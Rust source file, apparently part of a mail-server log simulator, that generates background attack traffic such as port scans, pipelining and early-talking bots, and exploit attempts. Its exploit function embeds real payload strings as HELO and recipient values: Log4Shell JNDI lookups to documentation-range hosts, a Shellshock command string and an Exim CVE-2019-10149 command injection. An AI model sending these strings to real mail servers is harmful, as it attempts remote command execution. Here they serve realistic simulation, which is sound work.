//! What every address on the net hears: scanners, impatient bots, exploit strings.

use super::source::{Source, at_most, botnet, server};
use crate::world::build::Builder;
use crate::world::chance::Chance;
use crate::world::clock::{Micros, seconds};
use crate::world::names;
use crate::world::servers::Service;
use crate::world::stage::{Mind, Stage};
use crate::world::truth::Kind;
use crate::world::write::dovecot::Protocol;
use crate::world::write::postfix::Envelope;
use std::net::IpAddr;

struct Noisy {
    kind: Kind,
    source: Source,
    left: u32,
    until: Micros,
    refusals: u32,
}

/// Adds the campaign, if it is one of these.
pub(crate) fn campaign(builder: &mut Builder<'_>, chance: &mut Chance, kind: Kind, begins: Micros) {
    let bots = builder.numbers.bots;
    let (source, left) = match kind {
        Kind::Scanner => {
            let addresses = (0..chance.within(1, 3)).map(|_| server(builder, chance)).collect();
            let source = Source::List { addresses, uses: 9, turn: 0, wraps: true };
            (source, chance.within(30, 160) as u32)
        }
        Kind::Exploiter => (Source::one(server(builder, chance)), chance.within(4, 40) as u32),
        Kind::Pipeliner => {
            let addresses = botnet(builder, chance, (bots / 50.0).max(2.0) as usize);
            (
                Source::List { addresses, uses: 2, turn: 0, wraps: true },
                chance.within(20, 200) as u32,
            )
        }
        Kind::EarlyTalker => {
            let addresses = botnet(builder, chance, (bots / 10.0).max(2.0) as usize);
            let left = addresses.len() as u32 * 3;
            (Source::List { addresses, uses: 1, turn: 0, wraps: true }, left)
        }
        _ => return,
    };
    let until = at_most(builder, begins, 8.0);
    let group = builder.group(kind);
    let noisy = Noisy { kind, source, left, until, refusals: 0 };
    builder.add(kind, Some(group), None, begins, Box::new(noisy));
}

impl Mind for Noisy {
    fn wake(&mut self, stage: &mut Stage<'_>) -> Option<Micros> {
        if self.left == 0 || stage.at >= self.until || self.refusals > 60 {
            return None;
        }
        let client = self.source.next(stage.site, stage.at)?;
        if !stage.admits(client) {
            self.refusals += 1;
            return Some(stage.at + self.source.refused(stage.chance));
        }
        self.left -= 1;
        let gap = match self.kind {
            Kind::Scanner => {
                scan(stage, client);
                // A sweep over the services, then hours of rest.
                match self.left % 9 {
                    0 => stage.chance.between(4_000.0, 80_000.0),
                    _ => stage.chance.between(0.2, 9.0),
                }
            }
            Kind::Exploiter => {
                exploit(stage, client);
                stage.chance.log_normal(60.0, 1.2)
            }
            Kind::EarlyTalker if stage.site.settings.has_postscreen => {
                early(stage, client);
                stage.chance.exponential(700.0)
            }
            _ => {
                let from =
                    format!("{}@{}", names::stranger(stage.chance.bits() >> 5), names::domain(40));
                stage.pipeline(client, &from);
                stage.chance.exponential(900.0)
            }
        };
        Some(stage.at + seconds(gap))
    }
}

fn scan(stage: &mut Stage<'_>, client: IpAddr) {
    match stage.chance.below(9) {
        0 => stage.knock(client, Service::Smtpd),
        1 => stage.knock(client, Service::Submission),
        2 => stage.knock_tls(client),
        3 => stage.silent_mailbox(Protocol::Imap, client, false),
        4 => stage.silent_mailbox(Protocol::Pop3, client, true),
        5 => stage.bad_tls_mailbox(Protocol::Imap, client),
        6 => stage.bad_tls_mailbox(Protocol::Pop3, client),
        7 => stage.speak_foreign(client, "GET / HTTP/1.1"),
        _ => stage.speak_foreign(client, "CONNECT 192.0.2.4:25 HTTP/1.0"),
    }
}

fn early(stage: &mut Stage<'_>, client: IpAddr) {
    let account = stage.chance.index(stage.site.people as usize) as u32;
    let to = stage.site.login(account);
    let from = format!("{}@{}", names::stranger(stage.chance.bits() >> 5), names::domain(77));
    let helo = format!("win-{:06x}.example", stage.chance.bits() & 0xff_ffff);
    stage.talk_early(client, Envelope { from: &from, to, helo: &helo });
}

/// Log4Shell, Shellshock and format strings in HELO; CVE-2019-10149 (Exim) in the recipient.
/// The addresses inside are examples of nobody.
fn exploit(stage: &mut Stage<'_>, client: IpAddr) {
    let domain = &stage.site.domain;
    let ran = format!("root+${{run{{x2Fbinx2Fshx20-cx20idx3Ex2Ftmpx2Fa}}}}@{domain}");
    let plain = format!("info@{domain}");
    let (to, helo) = match stage.chance.below(5) {
        0 => (&plain, "${jndi:ldap://198.51.100.1:1389/a}"),
        1 => (&plain, "() { :;}; /bin/sh -c 'id'"),
        2 => (&plain, "${jndi:dns://203.0.113.66/unknown[203.0.113.66]}"),
        _ => (&ran, "mail.example"),
    };
    stage.exploit(client, Envelope { from: "support@service.example", to, helo });
}
